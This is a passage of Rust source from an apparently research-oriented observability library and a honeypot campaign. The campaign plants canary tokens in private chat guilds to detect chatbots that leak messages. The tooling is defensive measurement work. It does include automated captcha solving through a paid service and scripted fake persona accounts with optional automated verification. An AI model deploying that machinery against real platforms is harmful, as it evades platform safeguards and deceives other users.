/// Metric registry: dotted path → typed metric.
///
/// Registering the same path twice returns the same underlying cells;
/// registering a path under two different types is a programming error and
/// panics with the offending path.
#[derive(Debug, Default)]
pub struct Registry {
    metrics: Mutex<BTreeMap<String, Metric>>,
}

impl Registry {
    /// An empty registry.
    pub fn new() -> Registry {
        Registry::default()
    }

    /// The counter registered at `path` (registered on first use).
    pub fn counter(&self, path: &str) -> Counter {
        let mut map = self.metrics.lock().expect("registry lock");
        match map
            .entry(path.to_string())
            .or_insert_with(|| Metric::Counter(Counter::detached()))
        {
            Metric::Counter(c) => c.clone(),
            other => panic!("metric {path:?} already registered as {other:?}, wanted a counter"),
        }
    }

    /// The gauge registered at `path` (registered on first use).
    pub fn gauge(&self, path: &str) -> Gauge {
        let mut map = self.metrics.lock().expect("registry lock");
        match map
            .entry(path.to_string())
            .or_insert_with(|| Metric::Gauge(Gauge::detached()))
        {
            Metric::Gauge(g) => g.clone(),
            other => panic!("metric {path:?} already registered as {other:?}, wanted a gauge"),
        }
    }

    /// The histogram registered at `path` (registered on first use).
    pub fn histogram(&self, path: &str) -> Histogram {
        let mut map = self.metrics.lock().expect("registry lock");
        match map
            .entry(path.to_string())
            .or_insert_with(|| Metric::Histogram(Histogram::detached()))
        {
            Metric::Histogram(h) => h.clone(),
            other => panic!("metric {path:?} already registered as {other:?}, wanted a histogram"),
        }
    }

    /// Current value of the counter at `path` (0 when absent).
    pub fn counter_value(&self, path: &str) -> u64 {
        let map = self.metrics.lock().expect("registry lock");
        match map.get(path) {
            Some(Metric::Counter(c)) => c.value(),
            _ => 0,
        }
    }

    /// Current value of the gauge at `path` (0 when absent).
    pub fn gauge_value(&self, path: &str) -> i64 {
        let map = self.metrics.lock().expect("registry lock");
        match map.get(path) {
            Some(Metric::Gauge(g)) => g.value(),
            _ => 0,
        }
    }

    /// Every registered metric, sorted by path.
    pub fn snapshot(&self) -> Vec<(String, MetricValue)> {
        let map = self.metrics.lock().expect("registry lock");
        map.iter()
            .map(|(path, metric)| {
                let value = match metric {
                    Metric::Counter(c) => MetricValue::Counter(c.value()),
                    Metric::Gauge(g) => MetricValue::Gauge(g.value()),
                    Metric::Histogram(h) => MetricValue::Histogram(Box::new(h.snapshot())),
                };
                (path.clone(), value)
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counter_accumulates() {
        let r = Registry::new();
        let c = r.counter("a.b");
        c.add(3);
        r.counter("a.b").incr();
        assert_eq!(r.counter_value("a.b"), 4);
        assert_eq!(r.counter_value("missing"), 0);
    }

    #[test]
    fn gauge_sets_and_adds() {
        let r = Registry::new();
        let g = r.gauge("pool.workers");
        g.set(8);
        g.add(-3);
        assert_eq!(r.gauge_value("pool.workers"), 5);
    }

    #[test]
    fn histogram_bucketing_is_power_of_two() {
        assert_eq!(bucket_index(0), 0);
        assert_eq!(bucket_index(1), 1);
        assert_eq!(bucket_index(2), 2);
        assert_eq!(bucket_index(3), 2);
        assert_eq!(bucket_index(4), 3);
        assert_eq!(bucket_index(1023), 10);
        assert_eq!(bucket_index(1024), 11);
        assert_eq!(bucket_index(u64::MAX), 64);

        let h = Histogram::detached();
        for v in [0, 1, 2, 3, 4, 1024] {
            h.record(v);
        }
        let s = h.snapshot();
        assert_eq!(s.count, 6);
        assert_eq!(s.sum, 1034);
        assert_eq!(s.min, 0);
        assert_eq!(s.max, 1024);
        assert_eq!(s.buckets[0], 1, "zero bucket");
        assert_eq!(s.buckets[1], 1, "[1,2)");
        assert_eq!(s.buckets[2], 2, "[2,4)");
        assert_eq!(s.buckets[3], 1, "[4,8)");
        assert_eq!(s.buckets[11], 1, "[1024,2048)");
        assert!((s.mean() - 1034.0 / 6.0).abs() < 1e-9);
    }

    #[test]
    fn empty_histogram_snapshot_is_zeroed() {
        let s = Histogram::detached().snapshot();
        assert_eq!((s.count, s.sum, s.min, s.max), (0, 0, 0, 0));
        assert_eq!(s.mean(), 0.0);
    }

    #[test]
    fn snapshot_is_sorted_by_path() {
        let r = Registry::new();
        r.counter("z.last").incr();
        r.gauge("a.first").set(1);
        r.histogram("m.mid").record(7);
        let paths: Vec<String> = r.snapshot().into_iter().map(|(p, _)| p).collect();
        assert_eq!(paths, vec!["a.first", "m.mid", "z.last"]);
    }

    #[test]
    #[should_panic(expected = "already registered")]
    fn kind_conflict_panics() {
        let r = Registry::new();
        r.counter("x");
        r.gauge("x");
    }
}
