//! Hierarchical spans with drop-guard close semantics.
//!
//! A [`Span`] marks one unit of pipeline work (a crawl shard, one bot's
//! analysis, a honeypot guild). Spans nest explicitly — [`Span::child`]
//! rather than thread-local ambient context — so worker threads can parent
//! their spans on the stage span that spawned them. Closing happens in
//! `Drop`, which also runs during unwinding: a panicking worker still
//! closes its spans, a property the unit tests pin down.
//!
//! Determinism contract: span *identity* is `(name, key)`, not creation
//! order. Recorders that aggregate (see `JsonRecorder::canonical_trace`)
//! merge same-identity siblings and sort, so a trace taken at 4 workers is
//! byte-identical to one taken serially as long as instrumented code keys
//! spans by work-unit index (never worker id) and records only
//! scheduling-independent fields.

use crate::ObsCore;
use std::sync::{Arc, Mutex};

/// A recorded field value.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum FieldValue {
    /// Unsigned integer; merged siblings sum these.
    U64(u64),
    /// String; merged siblings keep the value only when all agree.
    Str(String),
}

/// A closed span, as delivered to [`crate::Recorder::on_span_end`].
#[derive(Clone, Debug)]
pub struct SpanData {
    /// Process-unique span id (monotonic per [`crate::Obs`]).
    pub id: u64,
    /// Parent span id, `None` for roots.
    pub parent: Option<u64>,
    /// Static span name (dotted by convention: `crawl.pages`).
    pub name: &'static str,
    /// Deterministic work-unit key (listing index, chunk index, …).
    pub key: Option<u64>,
    /// Virtual-clock open time, milliseconds.
    pub start_ms: u64,
    /// Virtual-clock close time, milliseconds.
    pub end_ms: u64,
    /// Recorded fields, in recording order.
    pub fields: Vec<(&'static str, FieldValue)>,
}

pub(crate) struct SpanInner {
    pub(crate) core: Arc<ObsCore>,
    pub(crate) id: u64,
    pub(crate) parent: Option<u64>,
    pub(crate) name: &'static str,
    pub(crate) key: Option<u64>,
    pub(crate) start_ms: u64,
    pub(crate) fields: Mutex<Vec<(&'static str, FieldValue)>>,
}

/// An open span. Dropping it closes the span and hands the record to the
/// recorder — including during a panic unwind.
#[derive(Default)]
pub struct Span {
    pub(crate) inner: Option<SpanInner>,
}

impl Span {
    /// A span that records nothing; children are also disabled. This is
    /// what every span-taking API receives when tracing is off, so the
    /// instrumentation cost is a null check.
    pub fn disabled() -> Span {
        Span { inner: None }
    }

    /// Whether this span actually records.
    pub fn is_enabled(&self) -> bool {
        self.inner.is_some()
    }

    /// Open a child span.
    pub fn child(&self, name: &'static str) -> Span {
        self.child_inner(name, None)
    }

    /// Open a child span keyed by a deterministic work-unit index.
    pub fn child_keyed(&self, name: &'static str, key: u64) -> Span {
        self.child_inner(name, Some(key))
    }

    fn child_inner(&self, name: &'static str, key: Option<u64>) -> Span {
        match &self.inner {
            None => Span::disabled(),
            Some(inner) => inner.core.open_span(name, key, Some(inner.id)),
        }
    }

    /// Record an unsigned field (merged siblings sum it).
    pub fn record(&self, field: &'static str, value: u64) {
        if let Some(inner) = &self.inner {
            inner
                .fields
                .lock()
                .expect("span fields lock")
                .push((field, FieldValue::U64(value)));
        }
    }

    /// Record a string field (merged siblings keep it only when all agree).
    pub fn record_str(&self, field: &'static str, value: &str) {
        if let Some(inner) = &self.inner {
            inner
                .fields
                .lock()
                .expect("span fields lock")
                .push((field, FieldValue::Str(value.to_string())));
        }
    }
}

impl Drop for Span {
    fn drop(&mut self) {
        if let Some(inner) = self.inner.take() {
            let end_ms = inner.core.clock.now_millis();
            let fields = inner
                .fields
                .lock()
                .map(|mut f| std::mem::take(&mut *f))
                .unwrap_or_default();
            let data = SpanData {
                id: inner.id,
                parent: inner.parent,
                name: inner.name,
                key: inner.key,
                start_ms: inner.start_ms,
                end_ms,
                fields,
            };
            inner.core.recorder.on_span_end(&data);
        }
    }
}

impl std::fmt::Debug for Span {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match &self.inner {
            None => f.write_str("Span(disabled)"),
            Some(i) => f
                .debug_struct("Span")
                .field("id", &i.id)
                .field("name", &i.name)
                .field("key", &i.key)
                .finish(),
        }
    }
}
