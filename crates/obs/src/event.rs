//! Severity-tagged event log backed by a bounded ring buffer.
//!
//! Events are the "printf channel" of the pipeline: one-off occurrences
//! (a kill-switch firing, a captcha encountered, a journal replay) that
//! don't fit the span tree or a metric. The buffer is bounded so a noisy
//! stage cannot grow memory without limit — when full, the oldest events
//! are dropped and a drop counter records how many were lost.

use std::collections::VecDeque;
use std::fmt;
use std::sync::Mutex;

/// Event severity, ordered from least to most severe.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Severity {
    /// Fine-grained diagnostic detail.
    Debug,
    /// Normal operational milestones.
    Info,
    /// Something unexpected but recoverable.
    Warn,
    /// A failure the pipeline had to work around or abort on.
    Error,
}

impl Severity {
    /// Canonical lowercase label (`"debug"`, `"info"`, `"warn"`, `"error"`).
    pub fn label(self) -> &'static str {
        match self {
            Severity::Debug => "debug",
            Severity::Info => "info",
            Severity::Warn => "warn",
            Severity::Error => "error",
        }
    }
}

impl fmt::Display for Severity {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.label())
    }
}

/// One logged event.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Event {
    /// Virtual-clock timestamp, milliseconds.
    pub at_ms: u64,
    /// Severity level.
    pub severity: Severity,
    /// Originating subsystem (dotted: `store.journal`).
    pub target: &'static str,
    /// Human-readable message.
    pub message: String,
}

struct EventBuf {
    events: VecDeque<Event>,
    dropped: u64,
}

/// Bounded in-memory event log.
pub struct EventLog {
    capacity: usize,
    buf: Mutex<EventBuf>,
}

impl EventLog {
    /// A log holding at most `capacity` events (oldest dropped first).
    pub fn with_capacity(capacity: usize) -> EventLog {
        EventLog {
            capacity,
            buf: Mutex::new(EventBuf {
                events: VecDeque::new(),
                dropped: 0,
            }),
        }
    }

    /// Append an event, evicting the oldest if the buffer is full.
    pub fn push(&self, event: Event) {
        let mut buf = self.buf.lock().expect("event log lock");
        if self.capacity == 0 {
            buf.dropped += 1;
            return;
        }
        if buf.events.len() == self.capacity {
            buf.events.pop_front();
            buf.dropped += 1;
        }
        buf.events.push_back(event);
    }

    /// Events currently retained, oldest first.
    pub fn drain_snapshot(&self) -> Vec<Event> {
        let buf = self.buf.lock().expect("event log lock");
        buf.events.iter().cloned().collect()
    }

    /// How many events have been evicted so far.
    pub fn dropped(&self) -> u64 {
        self.buf.lock().expect("event log lock").dropped
    }

    /// Number of events currently retained.
    pub fn len(&self) -> usize {
        self.buf.lock().expect("event log lock").events.len()
    }

    /// Whether the log is empty.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

impl fmt::Debug for EventLog {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("EventLog")
            .field("capacity", &self.capacity)
            .field("len", &self.len())
            .field("dropped", &self.dropped())
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ev(msg: &str) -> Event {
        Event {
            at_ms: 0,
            severity: Severity::Info,
            target: "test",
            message: msg.to_string(),
        }
    }

    #[test]
    fn ring_buffer_evicts_oldest() {
        let log = EventLog::with_capacity(2);
        log.push(ev("a"));
        log.push(ev("b"));
        log.push(ev("c"));
        let msgs: Vec<String> = log
            .drain_snapshot()
            .into_iter()
            .map(|e| e.message)
            .collect();
        assert_eq!(msgs, vec!["b", "c"]);
        assert_eq!(log.dropped(), 1);
    }

    #[test]
    fn zero_capacity_drops_everything() {
        let log = EventLog::with_capacity(0);
        log.push(ev("a"));
        assert!(log.is_empty());
        assert_eq!(log.dropped(), 1);
    }

    #[test]
    fn severity_orders_and_labels() {
        assert!(Severity::Debug < Severity::Info);
        assert!(Severity::Warn < Severity::Error);
        assert_eq!(Severity::Warn.label(), "warn");
        assert_eq!(Severity::Error.to_string(), "error");
    }
}
