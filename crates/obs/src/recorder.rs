//! Trace sinks: where closed spans and events go.
//!
//! The pipeline always *instruments*; the [`Recorder`] decides whether any
//! of it is retained. [`NullRecorder`] (the default) reports
//! `is_tracing() == false`, which makes [`crate::Obs::span`] hand out
//! disabled spans — the instrumented code pays a null check and nothing
//! else. [`JsonRecorder`] retains every closed span and renders a
//! *canonical* trace: same-identity sibling spans merged, numeric fields
//! summed, children sorted — so the dump is byte-identical however many
//! workers raced through the stages.

use crate::event::Event;
use crate::json;
use crate::span::{FieldValue, SpanData};
use std::collections::BTreeMap;
use std::sync::Mutex;

/// A sink for closed spans and events.
pub trait Recorder: Send + Sync {
    /// Whether span tracing is live. When `false`, [`crate::Obs::span`]
    /// returns disabled spans and `on_span_end` is never called.
    fn is_tracing(&self) -> bool;

    /// Called exactly once per enabled span, at close (drop) time.
    fn on_span_end(&self, span: &SpanData);

    /// Called for every logged event.
    fn on_event(&self, event: &Event);
}

/// The zero-cost recorder: retains nothing, disables tracing.
#[derive(Clone, Copy, Debug, Default)]
pub struct NullRecorder;

impl Recorder for NullRecorder {
    fn is_tracing(&self) -> bool {
        false
    }

    fn on_span_end(&self, _span: &SpanData) {}

    fn on_event(&self, _event: &Event) {}
}

/// Retains all spans and events; renders a canonical, diffable JSON trace.
#[derive(Debug, Default)]
pub struct JsonRecorder {
    spans: Mutex<Vec<SpanData>>,
    events: Mutex<Vec<Event>>,
}

impl JsonRecorder {
    /// An empty recorder.
    pub fn new() -> JsonRecorder {
        JsonRecorder::default()
    }

    /// Number of spans closed so far.
    pub fn span_count(&self) -> usize {
        self.spans.lock().expect("json recorder lock").len()
    }

    /// Events received so far, in arrival order.
    pub fn events(&self) -> Vec<Event> {
        self.events.lock().expect("json recorder lock").clone()
    }

    /// Canonical trace JSON.
    ///
    /// Canonicalisation makes the dump independent of thread scheduling:
    ///
    /// * sibling spans with the same `(name, key)` identity are **merged**:
    ///   their `u64` fields are summed, string fields kept only when every
    ///   merged span agrees, and children merged recursively. The number of
    ///   spans folded together is *not* emitted — per-worker spans merge
    ///   into one node, and how many there were depends on the worker
    ///   count;
    /// * children are **sorted** by `(name, key)`;
    /// * **timestamps are excluded** — virtual durations depend on which
    ///   worker's clock advanced first, so they live in metrics, not here.
    ///
    /// Two runs over the same seed therefore dump byte-identical traces at
    /// any worker count, provided the instrumented code keys spans by
    /// work-unit index and records only scheduling-independent fields.
    pub fn canonical_trace(&self) -> String {
        let spans = self.spans.lock().expect("json recorder lock");
        let mut children_of: BTreeMap<Option<u64>, Vec<&SpanData>> = BTreeMap::new();
        let known: std::collections::BTreeSet<u64> = spans.iter().map(|s| s.id).collect();
        for span in spans.iter() {
            // A span whose parent never closed (or was disabled) is a root.
            let parent = span.parent.filter(|p| known.contains(p));
            children_of.entry(parent).or_default().push(span);
        }
        let roots = merge_level(children_of.get(&None).map_or(&[][..], |v| v), &children_of);
        let mut out = String::new();
        out.push_str("{\"trace\":[");
        for (i, node) in roots.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            write_node(&mut out, node);
        }
        out.push_str("]}");
        out
    }
}

impl Recorder for JsonRecorder {
    fn is_tracing(&self) -> bool {
        true
    }

    fn on_span_end(&self, span: &SpanData) {
        self.spans
            .lock()
            .expect("json recorder lock")
            .push(span.clone());
    }

    fn on_event(&self, event: &Event) {
        self.events
            .lock()
            .expect("json recorder lock")
            .push(event.clone());
    }
}

/// A merged node in the canonical trace tree.
struct MergedNode {
    name: &'static str,
    key: Option<u64>,
    fields: BTreeMap<&'static str, Option<FieldValue>>,
    children: Vec<MergedNode>,
}

fn merge_level(
    level: &[&SpanData],
    children_of: &BTreeMap<Option<u64>, Vec<&SpanData>>,
) -> Vec<MergedNode> {
    // Group siblings by identity.
    let mut groups: BTreeMap<(&'static str, Option<u64>), Vec<&SpanData>> = BTreeMap::new();
    for span in level {
        groups.entry((span.name, span.key)).or_default().push(span);
    }
    groups
        .into_iter()
        .map(|((name, key), members)| {
            // `None` marks a string field whose merged values disagreed;
            // it is omitted from the dump rather than picking a winner.
            let mut fields: BTreeMap<&'static str, Option<FieldValue>> = BTreeMap::new();
            let mut child_spans: Vec<&SpanData> = Vec::new();
            for span in &members {
                for (fname, value) in &span.fields {
                    match value {
                        FieldValue::U64(v) => match fields.entry(fname).or_insert(None) {
                            Some(FieldValue::U64(acc)) => *acc += v,
                            slot @ None => *slot = Some(FieldValue::U64(*v)),
                            _ => {}
                        },
                        FieldValue::Str(s) => match fields.get(fname) {
                            None => {
                                fields.insert(fname, Some(FieldValue::Str(s.clone())));
                            }
                            Some(Some(FieldValue::Str(prev))) if prev == s => {}
                            _ => {
                                fields.insert(fname, None);
                            }
                        },
                    }
                }
                if let Some(kids) = children_of.get(&Some(span.id)) {
                    child_spans.extend(kids.iter().copied());
                }
            }
            MergedNode {
                name,
                key,
                fields,
                children: merge_level(&child_spans, children_of),
            }
        })
        .collect()
}

fn write_node(out: &mut String, node: &MergedNode) {
    out.push_str("{\"name\":");
    json::write_str(out, node.name);
    if let Some(key) = node.key {
        out.push_str(&format!(",\"key\":{key}"));
    }
    let live: Vec<_> = node
        .fields
        .iter()
        .filter_map(|(name, v)| v.as_ref().map(|v| (*name, v)))
        .collect();
    if !live.is_empty() {
        out.push_str(",\"fields\":{");
        for (i, (name, value)) in live.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            json::write_str(out, name);
            out.push(':');
            match value {
                FieldValue::U64(v) => out.push_str(&v.to_string()),
                FieldValue::Str(s) => json::write_str(out, s),
            }
        }
        out.push('}');
    }
    if !node.children.is_empty() {
        out.push_str(",\"children\":[");
        for (i, child) in node.children.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            write_node(out, child);
        }
        out.push(']');
    }
    out.push('}');
}
