//! # honeypot — the dynamic-analysis stage (§3, §4.2)
//!
//! "In the absence of a direct access to the software of a chatbot, we
//! develop a dynamic analysis approach to study remote programs in their
//! environment. For this, we use a honeypot instrumented with canary
//! tokens."
//!
//! The moving parts, mirroring the paper's design:
//!
//! * [`token`] — canary tokens of the four kinds used in the measurement:
//!   **email**, **URL**, **Word document**, **PDF**. Document tokens embed
//!   their beacon URL in metadata so that *opening* the file phones home.
//! * [`sink`] — the canarytokens-style signal server: any request for a
//!   token URL (or mail to a canary address) is recorded with requester and
//!   virtual timestamp.
//! * [`feed`] — the realistic conversation feed: short, informal OSN-style
//!   messages (the paper used Reddit rather than Enron for exactly this
//!   register) posted by alternating personas.
//! * [`persona`] — virtual-user management, including the mobile
//!   verification dance Discord forces on fresh accounts that join many
//!   guilds.
//! * [`campaign`] — orchestration: one isolated private guild per bot under
//!   test, named after the bot for attribution; personas, feed, tokens; run
//!   the fleet; attribute triggers. The orchestrator is generic over
//!   [`platform::ChatSubstrate`], so the same campaign audits the Discord
//!   world (via [`substrate::DiscordSubstrate`]) and the Telegram one
//!   (`telegram_sim::TelegramSubstrate`).
//! * [`substrate`] — the Discord-world [`platform::ChatSubstrate`] adapter.

#![warn(missing_docs)]
#![forbid(unsafe_code)]

pub mod campaign;
pub mod feed;
pub mod persona;
pub mod sink;
pub mod substrate;
pub mod token;

pub use campaign::{
    BotUnderTest, Campaign, CampaignConfig, CampaignReport, Detection, GuildSnapshot,
};
pub use sink::{CanarySink, Trigger, SINK_HOST};
pub use substrate::DiscordSubstrate;
pub use token::{CanaryToken, TokenKind, TokenMint};
