//! Campaign orchestration.
//!
//! §4.2, "Discord Chatbots Honeypots": for every bot under test, create an
//! isolated private room named after the bot, populate it with personas
//! and a realistic feed, plant the four canary tokens, install the bot
//! (solving the install captcha where the platform demands one), let the
//! fleet run, and attribute any sink signals back to bots via the room tag
//! in the token ID.
//!
//! The orchestration is generic over [`ChatSubstrate`]: the same campaign
//! runs against the Discord-style world (via
//! [`crate::substrate::DiscordSubstrate`]) and the Telegram-style one
//! (`telegram_sim::TelegramSubstrate`). Platform differences — captcha
//! walls, webhook existence, persona-verification friction — surface as
//! report fields, not code forks.

use crate::feed::generate_feed;
use crate::sink::{CanarySink, Trigger, MAIL_HOST, SINK_HOST};
use crate::token::{CanaryToken, TokenKind, TokenMint};
use crawler::crawl::resolve_workers;
use crawler::solver::CaptchaSolverClient;
use netsim::clock::SimDuration;
use obs::{Obs, Severity, Span};
use parking_lot::Mutex;
use platform::{ActorId, ChatSubstrate, PersonaRoster, RoomId, SubstrateResult};
use rand::rngs::StdRng;
use rand::SeedableRng;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::sync::atomic::{AtomicUsize, Ordering};

/// Campaign parameters (defaults follow §4.2: 5 personas, 25 messages,
/// 4 tokens per guild).
#[derive(Debug, Clone)]
pub struct CampaignConfig {
    /// Personas per guild.
    pub personas_per_guild: usize,
    /// Conversational messages per guild.
    pub feed_messages: usize,
    /// RNG seed.
    pub seed: u64,
    /// Provision personas with automated verification instead of the
    /// paper's manual mobile step (its stated future work).
    pub auto_verify_personas: bool,
    /// Also plant a webhook-credential canary per guild (extension; see
    /// [`crate::token::TokenKind::WebhookToken`]). Ignored on substrates
    /// without webhooks — the threat class does not exist there.
    pub plant_webhook_canaries: bool,
    /// Guild-population workers: 1 = serial, N = a bounded pool of N
    /// concurrent campaigns, 0 = one per available core. Detections merge
    /// in deterministic bot order either way.
    pub workers: usize,
}

impl Default for CampaignConfig {
    fn default() -> Self {
        CampaignConfig {
            personas_per_guild: 5,
            feed_messages: 25,
            seed: 1,
            auto_verify_personas: false,
            plant_webhook_canaries: true,
            workers: 1,
        }
    }
}

/// One bot to test: its platform identity plus its (unknown to the
/// researcher) backend behaviour.
pub struct BotUnderTest<S: ChatSubstrate> {
    /// Listing name.
    pub name: String,
    /// Listing / application client ID.
    pub client_id: u64,
    /// Bot account.
    pub bot_user: ActorId,
    /// The scraped invite string to install with (an OAuth URL on Discord,
    /// a deep link on Telegram).
    pub invite: String,
    /// The developer-controlled backend.
    pub behavior: Box<S::Behavior>,
}

/// One attributed detection.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Detection {
    /// The bot whose guild's tokens fired.
    pub bot_name: String,
    /// Which token kinds fired.
    pub token_kinds: Vec<TokenKind>,
    /// Requester labels observed at the sink.
    pub requesters: Vec<String>,
    /// Bot-authored messages posted after the first trigger (the
    /// "wtf is this bro" tell).
    pub followup_messages: Vec<String>,
}

/// Campaign outcome.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct CampaignReport {
    /// Guilds created (one per bot).
    pub guilds_created: usize,
    /// Bots installed and tested.
    pub bots_tested: usize,
    /// Bots whose installation failed (dead invites etc.).
    pub install_failures: usize,
    /// Canary tokens planted.
    pub tokens_planted: usize,
    /// Conversational messages posted.
    pub messages_posted: usize,
    /// Install captchas solved (zero on captcha-free platforms).
    pub captchas_solved: u64,
    /// 2Captcha spend in dollars.
    pub captcha_spend_dollars: f64,
    /// Manual mobile verifications required for personas.
    pub manual_verifications: u64,
    /// Raw sink triggers.
    pub triggers: Vec<Trigger>,
    /// Attributed detections.
    pub detections: Vec<Detection>,
    /// Total bytes bot backends sent over the network during the campaign
    /// (the tap's exfiltration-volume measure).
    pub backend_bytes_sent: usize,
    /// Virtual time the campaign took.
    pub duration: SimDuration,
}

fn registry_insert_webhook(map: &mut BTreeMap<String, String>, token: &str, token_id: &str) {
    map.insert(token.to_string(), token_id.to_string());
}

/// One guild's complete phase-2 transcript, distilled to what the campaign
/// report needs. Per-guild transcripts are schedule-independent (each guild
/// owns its RNG stream, token mint, and backend), so a snapshot captured in
/// one run stands in for re-running the guild in a later run of the *same*
/// bot — same name, invite, and backend behaviour — and the merged report
/// is byte-identical either way.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct GuildSnapshot {
    /// The bot this guild tested.
    pub bot_name: String,
    /// Feed messages the guild posted.
    pub messages_posted: usize,
    /// Canary tokens the guild planted.
    pub tokens_planted: usize,
    /// Canonical trigger tuples `(token_id, requester, via_mail)` this
    /// guild's tokens produced.
    pub triggers: Vec<(String, String, bool)>,
    /// The attributed detection, when the bot was caught.
    pub detection: Option<Detection>,
}

/// One guild through set-up and ready for population.
struct GuildJob<S: ChatSubstrate> {
    bot_name: String,
    guild: RoomId,
    /// The connected backend; `None` when the gateway connect failed (the
    /// guild is still populated, matching a real campaign where the
    /// researcher can't see that a backend is down).
    bot: Option<S::Backend>,
}

/// A claimable slot in the parallel campaign: each indexed guild job sits
/// in its own mutex so exactly one worker can steal it.
type JobSlot<S> = Mutex<Option<(usize, GuildJob<S>)>>;

/// What one guild's population produced; merged into the report and token
/// registry in deterministic bot order.
struct GuildOutcome {
    registry_entries: Vec<(CanaryToken, String)>,
    messages_posted: usize,
    tokens_planted: usize,
}

/// The orchestrator, generic over the messaging substrate under audit.
pub struct Campaign<S: ChatSubstrate> {
    substrate: S,
    config: CampaignConfig,
    sink: CanarySink,
    mint: TokenMint,
    solver: CaptchaSolverClient,
    researcher: ActorId,
    /// webhook token string → canary token id (for the network-tap scan).
    webhook_canaries: BTreeMap<String, String>,
}

impl<S: ChatSubstrate> Campaign<S> {
    /// Set up a campaign: mounts the sink, registers the researcher
    /// account. On captcha-walled substrates the 2Captcha service must
    /// already be mounted.
    pub fn new(substrate: S, config: CampaignConfig) -> Campaign<S> {
        let net = substrate.network().clone();
        let sink = CanarySink::new();
        sink.mount(&net);
        let researcher = substrate.register_operator("researcher#0001", "research@lab.example");
        Campaign {
            substrate,
            config,
            sink,
            mint: TokenMint::new(SINK_HOST, MAIL_HOST),
            solver: CaptchaSolverClient::new(net),
            researcher,
            webhook_canaries: BTreeMap::new(),
        }
    }

    /// The sink (for external inspection).
    pub fn sink(&self) -> &CanarySink {
        &self.sink
    }

    /// The substrate under audit.
    pub fn substrate(&self) -> &S {
        &self.substrate
    }

    /// Sanitized guild tag for a bot name.
    pub fn guild_tag(bot_name: &str) -> String {
        let slug: String = bot_name
            .chars()
            .map(|c| {
                if c.is_ascii_alphanumeric() {
                    c.to_ascii_lowercase()
                } else {
                    '-'
                }
            })
            .collect();
        format!("guild-{slug}")
    }

    /// Run the whole campaign over a fleet of bots.
    pub fn run(&mut self, bots: Vec<BotUnderTest<S>>) -> CampaignReport {
        self.run_traced(bots, &Obs::disabled(), &Span::disabled())
    }

    /// [`Campaign::run`] with observability attached.
    ///
    /// Opens a `honeypot` span under `parent` with a `setup` child for the
    /// serial phase and one `guild` child per populated guild, keyed by the
    /// guild's position in bot-name order — the same index that selects its
    /// RNG stream, so the canonical trace is identical at any worker count.
    /// Metrics go to `obs` under `honeypot.*`.
    pub fn run_traced(
        &mut self,
        bots: Vec<BotUnderTest<S>>,
        obs: &Obs,
        parent: &Span,
    ) -> CampaignReport {
        self.run_traced_with_reuse(bots, obs, parent, &BTreeMap::new())
            .0
    }

    /// [`Campaign::run_traced`] with prior-run guild transcripts attached.
    ///
    /// Phase 1 (guild creation, persona joins, installs, backend connects)
    /// always runs for every bot, so platform state — guild IDs, user IDs,
    /// webhook token order — is identical whether or not anything is
    /// reused. Phase 2 is skipped for every bot whose name appears in
    /// `reuse`: its backend is never driven, and the snapshot's transcript
    /// is merged into the report instead. Live guilds keep the RNG-stream
    /// index they'd have in a full run, so the merged report is
    /// byte-identical (canonically) to running every guild.
    ///
    /// Returns the report plus one [`GuildSnapshot`] per tested bot
    /// (reused ones pass through), sorted by bot name — the caller's cache
    /// fodder for the next re-audit.
    pub fn run_traced_with_reuse(
        &mut self,
        bots: Vec<BotUnderTest<S>>,
        obs: &Obs,
        parent: &Span,
        reuse: &BTreeMap<String, GuildSnapshot>,
    ) -> (CampaignReport, Vec<GuildSnapshot>) {
        let span = parent.child("honeypot");
        let net = self.substrate.network().clone();
        let clock = net.clock();
        let started = clock.now();
        let mut report = CampaignReport::default();
        let mut pool = self.substrate.provision_personas(
            self.config.personas_per_guild,
            self.config.auto_verify_personas,
        );
        // token id → (token, bot name)
        let mut registry: BTreeMap<String, (CanaryToken, String)> = BTreeMap::new();
        let mut guild_of_bot: BTreeMap<String, RoomId> = BTreeMap::new();

        // Phase 1 (serial): guilds, persona joins, installs, backend
        // connects. Platform mutation stays in caller order here so guild
        // and user IDs don't depend on the worker count.
        let setup_span = span.child("setup");
        let mut jobs: Vec<GuildJob<S>> = Vec::new();
        for but in bots {
            match self.set_up_guild(&but, pool.as_mut(), &mut registry, &mut report) {
                Ok(guild) => {
                    guild_of_bot.insert(but.name.clone(), guild);
                    // Connect the backend (gateway first, then install has
                    // already happened inside set_up_guild — the bot missed
                    // the room-create event but sees every later message,
                    // which is what matters for the honeypot).
                    let bot = match self.substrate.connect_backend(
                        but.bot_user,
                        &format!("backend-{}", Self::guild_tag(&but.name)),
                        but.behavior,
                    ) {
                        Ok(bot) => {
                            report.bots_tested += 1;
                            Some(bot)
                        }
                        Err(_) => {
                            report.install_failures += 1;
                            None
                        }
                    };
                    jobs.push(GuildJob {
                        bot_name: but.name,
                        guild,
                        bot,
                    });
                }
                Err(_) => {
                    obs.event(
                        Severity::Warn,
                        "honeypot.setup",
                        format!("guild set-up failed for {}", but.name),
                    );
                    report.install_failures += 1;
                }
            }
        }
        setup_span.record("guilds_created", report.guilds_created as u64);
        setup_span.record("install_failures", report.install_failures as u64);
        drop(setup_span);
        // Per-guild RNG streams index off bot-name order (the order the
        // serial campaign populated in), not caller order.
        jobs.sort_by(|a, b| a.bot_name.cmp(&b.bot_name));

        // Split into live work and snapshot reuse. A reused guild went
        // through phase 1 like every other (platform state is identical to
        // a full run), but its backend is never driven again — the prior
        // transcript stands in for phase 2. Live guilds keep the index
